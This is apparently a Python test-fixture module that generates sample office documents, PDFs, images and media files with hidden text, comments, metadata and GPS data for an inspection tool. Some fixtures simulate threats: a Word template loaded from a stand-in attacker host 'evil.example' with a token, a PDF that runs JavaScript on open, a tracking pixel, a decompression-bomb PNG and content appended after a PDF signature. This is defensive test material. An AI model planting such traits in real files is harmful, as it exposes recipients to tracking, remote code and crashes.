"""Documents made for the tests, each by a small function, so that what stands in them can be read here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import pikepdf
from PIL import Image

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
PNG_DOT = b"\x89PNG\r\n\x1a\n"
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
    ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
    "<dc:title>{title}</dc:title><dc:creator>Li Wei</dc:creator><cp:lastModifiedBy>Anna</cp:lastModifiedBy>"
    "<dcterms:created>2024-03-01T08:00:00Z</dcterms:created><dcterms:modified>2024-03-05T09:30:00Z</dcterms:modified>"
    "</cp:coreProperties>"
)
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def zipped(members: Mapping[str, str | bytes]) -> bytes:
    """A zip of the members, in their order and with a fixed time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            raw = content.encode() if isinstance(content, str) else content
            packing = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2024, 3, 5, 12, 0, 0)), raw, packing)
    return out.getvalue()


def relations(*named: tuple[str, str, str]) -> str:
    """A relations part of (id, kind, target); a target with "://" is external."""
    outside = ' TargetMode="External"'
    rows = "".join(
        f'<Relationship Id="{identifier}" Type="{OFFICE}/{kind}" Target="{target}"'
        f"{outside if '://' in target else ''}/>"
        for identifier, kind, target in named
    )
    return f'<Relationships xmlns="{PACKAGE}">{rows}</Relationships>'


def root_relations(main: str) -> str:
    return relations(("r1", "officeDocument", main), ("r2", "core-properties", "docProps/core.xml"))


def docx(body: str, **parts: str | bytes) -> bytes:
    """A Word document with `body` inside w:body; further parts by path with "__" for "/" and "_" for "."."""
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": root_relations("word/document.xml"),
        "docProps/core.xml": CORE.format(title="Contract 4711"),
        "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>',
    }
    return zipped(members | {_path(name): content for name, content in parts.items()})


def _path(name: str) -> str:
    folder, _, file = name.rpartition("__")
    return f"{folder.replace('__', '/')}/{file.replace('_DOT_', '.')}"


def paragraph(text: str, properties: str = "") -> str:
    marks = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f'<w:p><w:r>{marks}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def contract_docx() -> bytes:
    """A contract with a table, tracked changes, a comment, hidden words, a header, a picture and a remote template."""
    body = (
        paragraph("Sales contract 4711")
        + '<w:p><w:r><w:t xml:space="preserve">Price: </w:t></w:r>'
        + '<w:del w:id="1" w:author="Li Wei" w:date="2024-03-04T10:00:00Z">'
        + "<w:r><w:delText>USD 12.50</w:delText></w:r></w:del>"
        + '<w:ins w:id="2" w:author="Li Wei" w:date="2024-03-04T10:01:00Z">'
        + "<w:r><w:t>USD 13.90</w:t></w:r></w:ins></w:p>"
        + "<w:tbl><w:tr><w:tc>" + paragraph("Item") + "</w:tc><w:tc>" + paragraph("Pieces") + "</w:tc></w:tr>"
        + "<w:tr><w:tc>" + paragraph("Valve") + "</w:tc><w:tc>" + paragraph("200") + "</w:tc></w:tr></w:tbl>"
        + paragraph("penalty waived", "<w:vanish/>")
        + "<w:p/>"
    )  # fmt: skip
    return docx(
        body,
        word___rels__document_DOT_xml_DOT_rels=relations(
            ("r1", "header", "header1.xml"),
            ("r2", "comments", "comments.xml"),
            ("r3", "attachedTemplate", "https://evil.example/t.dotm?token=abc123"),
            ("r4", "hyperlink", "https://shop.example/"),
        ),
        word__header1_DOT_xml=f'<w:hdr xmlns:w="{WORD}">{paragraph("Ningbo Valve Co.")}</w:hdr>',
        word__comments_DOT_xml=(
            f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Anna" w:date="2024-03-05T09:00:00Z">'
            f"{paragraph('We never agreed to this price.')}</w:comment></w:comments>"
        ),
        word__media__image1_DOT_png=PNG_DOT,
        word__vbaProject_DOT_bin=b"macro",
    )


def price_xlsx() -> bytes:
    """A workbook with a shown sheet (a text, a number, a date, a formula) and a hidden one, a comment, a link."""
    shared = "".join(f"<si><t>{text}</t></si>" for text in ("Item", "Price", "Valve", "cost 4.10"))
    rows = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>13.9</v></c><c r="C2" s="1"><v>45356</v></c></row>'
        '<row r="4" hidden="1"><c r="B4"><f>SUM(B2:B3)</f><v>13.9</v></c></row>'
    )
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData>{{}}</sheetData></worksheet>'
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": root_relations("xl/workbook.xml"),
            "docProps/core.xml": CORE.format(title="Prices"),
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="Prices" sheetId="1" r:id="r1"/><sheet name="Costs" sheetId="2" state="hidden" r:id="r2"/>'
            "</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": relations(
                ("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "worksheet", "worksheets/sheet2.xml"),
                ("r3", "sharedStrings", "sharedStrings.xml"), ("r4", "styles", "styles.xml"),
                ("r5", "externalLink", "externalLinks/externalLink1.xml"),
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("r1", "externalLinkPath", "https://files.example/rates.xlsx")
            ),
            "xl/sharedStrings.xml": f'<sst xmlns="{SHEET}">{shared}</sst>',
            "xl/styles.xml": f'<styleSheet xmlns="{SHEET}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
            "</styleSheet>",
            "xl/worksheets/sheet1.xml": sheet.format(rows),
            "xl/worksheets/sheet2.xml": sheet.format('<row r="1"><c r="A1" t="s"><v>3</v></c></row>'),
            "xl/comments1.xml": f'<comments xmlns="{SHEET}"><authors><author>Anna</author></authors><commentList>'
            '<comment ref="B2" authorId="0"><text><t>too high</t></text></comment></commentList></comments>',
        }
    )  # fmt: skip


def offer_pptx() -> bytes:
    """Two slides in an order other than their names', the second not shown; notes and a comment on the first."""

    def slide(text: str, attribute: str = "") -> str:
        shape = f"<p:cSld><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:cSld>"
        return f'<p:sld xmlns:p="{SLIDE}" xmlns:a="{DRAWING}" {attribute}>{shape}</p:sld>'

    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": root_relations("ppt/presentation.xml"),
            "docProps/core.xml": CORE.format(title="Offer"),
            "ppt/presentation.xml": f'<p:presentation xmlns:p="{SLIDE}" xmlns:r="{OFFICE}"><p:sldIdLst>'
            '<p:sldId id="256" r:id="r2"/><p:sldId id="257" r:id="r1"/></p:sldIdLst></p:presentation>',
            "ppt/_rels/presentation.xml.rels": relations(
                ("r1", "slide", "slides/slide1.xml"), ("r2", "slide", "slides/slide2.xml"),
                ("r3", "commentAuthors", "commentAuthors.xml"),
            ),
            "ppt/slides/slide1.xml": slide("Internal margin 40 %", 'show="0"'),
            "ppt/slides/slide2.xml": slide("Offer for 200 valves"),
            "ppt/slides/_rels/slide2.xml.rels": relations(
                ("r1", "notesSlide", "../notesSlides/notesSlide1.xml"), ("r2", "comments", "../comments/comment1.xml")
            ),
            "ppt/notesSlides/notesSlide1.xml": slide("Say that stock is short"),
            "ppt/commentAuthors.xml": f'<p:cmAuthorLst xmlns:p="{SLIDE}"><p:cmAuthor id="0" name="Anna"/>'
            "</p:cmAuthorLst>",
            "ppt/comments/comment1.xml": f'<p:cmLst xmlns:p="{SLIDE}"><p:cm authorId="0" dt="2024-03-05T09:00:00">'
            "<p:text>Is this final?</p:text></p:cm></p:cmLst>",
        }
    )  # fmt: skip


ODF_SPACES = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "table", "style")
)
ODF_META = (
    f'<office:document-meta {ODF_SPACES} xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
    ' xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta><dc:title>Letter</dc:title>'
    "<meta:initial-creator>Li Wei</meta:initial-creator><meta:creation-date>2024-03-01T08:00:00</meta:creation-date>"
    "<dc:date>2024-03-05T09:30:00Z</dc:date><meta:generator>LibreOffice/7.5</meta:generator>"
    "</office:meta></office:document-meta>"
)


def odf(kind: str, body: str, styles: str = "", **members: str) -> bytes:
    """An OpenDocument file of `kind` (text, spreadsheet) with `body` inside."""
    content = (
        f'<office:document-content {ODF_SPACES} xmlns:dc="http://purl.org/dc/elements/1.1/"'
        f' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
        f"<office:automatic-styles>{styles}</office:automatic-styles>"
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    parts = {_path(name): part for name, part in members.items()}
    return zipped({"mimetype": mimetype, "content.xml": content, "meta.xml": ODF_META} | parts)


def letter_odt() -> bytes:
    """A letter with a deletion that was tracked, an annotation, a table, and a picture fetched from outside."""
    info = (
        "<office:change-info><dc:creator>Li Wei</dc:creator><dc:date>2024-03-04T10:00:00</dc:date></office:change-info>"
    )
    return odf(
        "text",
        f'<text:tracked-changes><text:changed-region text:id="c1"><text:deletion>{info}'
        "<text:p>We pay within 30 days.</text:p></text:deletion></text:changed-region></text:tracked-changes>"
        "<text:h>Letter</text:h><text:p>Dear<text:s text:c=\"2\"/>Anna<office:annotation><dc:creator>Bob</dc:creator>"
        "<dc:date>2024-03-05T09:00:00</dc:date><text:p>check this</text:p></office:annotation>,</text:p>"
        "<table:table><table:table-row><table:table-cell><text:p>Valve</text:p></table:table-cell>"
        "<table:table-cell><text:p>200</text:p></table:table-cell></table:table-row></table:table>"
        '<text:p><draw:image xlink:href="https://track.example/p.png?sig=aaaa"/></text:p>',
        Basic__Standard__Module1_DOT_xml="<x/>",
    )  # fmt: skip


def prices_ods() -> bytes:
    """A sheet with a date, a formula and empty rows in between, and a sheet that is not shown."""
    cell = '<table:table-cell office:value-type="{}" {}><text:p>{}</text:p></table:table-cell>'
    empty = '<table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="1024"/>'
    return odf(
        "spreadsheet",
        '<table:table table:name="Prices"><table:table-row>' + cell.format("string", "", "Valve")
        + cell.format("date", 'office:date-value="2024-03-05"', "05.03.24") + "</table:table-row>"
        + empty + "</table:table-row><table:table-row>" + cell.format("float", 'table:formula="of:=1+1"', "2")
        + "</table:table-row></table:table>"
        + '<table:table table:name="Costs" table:style-name="ta1"><table:table-row>' + cell.format("string", "", "4.10")
        + "</table:table-row></table:table>",
        '<style:style style:name="ta1"><style:table-properties table:display="false"/></style:style>',
    )  # fmt: skip


def pdf_page(pdf: pikepdf.Pdf, text: str = "", **resources: Any) -> pikepdf.Page:
    """A page of `pdf` that shows `text` in Helvetica."""
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    drawn = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode() if text else b""
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=[0, 0, 612, 792],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), **resources),
        Contents=pdf.make_stream(drawn),
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf.pages[-1]


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, deterministic_id="encryption" not in options, **options)  # type: ignore[arg-type]
    return out.getvalue()


def invoice_pdf() -> bytes:
    """A text page, a scanned page and an empty one; an attachment, a comment, a filled field, a script and a link."""
    pdf = pikepdf.new()
    page = pdf_page(pdf, "Invoice 4711")
    scan = pdf.make_stream(jpeg())
    scan.write(jpeg(), filter=pikepdf.Name.DCTDecode)
    scan.Type, scan.Subtype, scan.Width, scan.Height = pikepdf.Name.XObject, pikepdf.Name.Image, 8, 8
    scan.BitsPerComponent, scan.ColorSpace = 8, pikepdf.Name.DeviceRGB
    pdf_page(pdf, XObject=pikepdf.Dictionary(Im1=scan))
    pdf_page(pdf)
    pdf.attachments["factur-x.xml"] = b"<Invoice/>"
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, T="Anna", Contents="wrong price",
                              M="D:20240305093000+01'00'", Rect=[0, 0, 9, 9])  # fmt: skip
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://pay.example/?token=s3cret")
                              )  # fmt: skip
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([note, link]))
    field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="buyer", V="Anna GmbH"))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    pdf.docinfo["/Title"], pdf.docinfo["/CreationDate"] = "Invoice", "D:20240301090000+08'00'"
    xmp = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/"><xmp:CreateDate>2024-04-01T09:00:00+08:00'
        "</xmp:CreateDate></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    pdf.Root.Metadata = pdf.make_stream(xmp.encode(), Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    return saved(pdf)


def signed_pdf(tail: bytes = b"") -> bytes:
    """A PDF whose signature states that it covers the whole file; `tail` is appended after it."""
    pdf = pikepdf.new()
    pdf_page(pdf, "Contract")
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, SubFilter=pikepdf.Name("/adbe.pkcs7.detached"), Name="Li Wei",
                               M="D:20240305093000+08'00'", ByteRange=[0, 11111, 22222, 33333],
                               Contents=pikepdf.String(b"\x30\x03\x02\x01\x01"))  # fmt: skip
    field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="Signature1", V=pdf.make_indirect(value)))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    raw = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    covered = f"[ 0 00100 00200 {len(raw.rstrip()) - 200:05} ]".encode()
    return raw.replace(b"[ 0 11111 22222 33333 ]", covered) + tail


def jpeg(exif: Image.Exif | None = None, size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "JPEG", exif=Image.Exif() if exif is None else exif)
    return out.getvalue()


def png(size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "PNG")
    return out.getvalue()


def bomb_png() -> bytes:
    """A PNG that states 60,000 x 60,000 pixels."""
    header = b"IHDR" + struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return PNG_DOT + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header)) + png()[33:]


def photo() -> bytes:
    """A JPEG with the EXIF of a phone in Shanghai."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Xiaomi", "Mi 11"
    exif.get_ifd(0x8769).update({0x9003: "2024:03:05 14:22:33", 0x9011: "+08:00"})
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 49.44), 3: "E", 4: (121.0, 28.0, 25.32)})
    return jpeg(exif, (64, 48))


def box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4(codec: bytes = b"avc1") -> bytes:
    """A video of 90 seconds, made on 2024-03-05 at 06:22:33 UTC."""
    created = 3_792_464_553
    header = struct.pack(">IIIII", 0, created, created, 1000, 90_000) + bytes(80)
    handler = box(b"hdlr", bytes(8), b"vide", bytes(13))
    described = box(b"stsd", struct.pack(">II", 0, 1), box(codec, bytes(78)))
    track = box(b"trak", box(b"mdia", handler, box(b"minf", box(b"stbl", described))))
    model = box(b"udta", box(b"\xa9mod", struct.pack(">HH", 6, 0), b"iPhone"))
    return box(b"ftyp", b"isom", bytes(4)) + box(b"moov", box(b"mvhd", header), track, model) + box(b"mdat", bytes(16))


def wav(seconds: int = 2) -> bytes:
    audio = bytes(8000 * seconds)
    form = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    chunks = b"fmt " + struct.pack("<I", 16) + form + b"data" + struct.pack("<I", len(audio)) + audio
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WAVE" + chunks


def opus(seconds: int = 3) -> bytes:
    """A voice message as WhatsApp makes them: a head page, a tag page and an end page."""

    def page(kind: int, granule: int, packet: bytes) -> bytes:
        return b"OggS\0" + struct.pack("<BqIIIBB", kind, granule, 1, 0, 0, 1, len(packet)) + packet

    head = b"OpusHead\x01\x01" + struct.pack("<HIHB", 312, 16_000, 0, 0)
    tags = b"OpusTags" + struct.pack("<I", 8) + b"WhatsApp" + struct.pack("<I", 0)
    return page(2, 0, head) + page(0, 0, tags) + page(4, 48_000 * seconds + 312, b"\xfc")
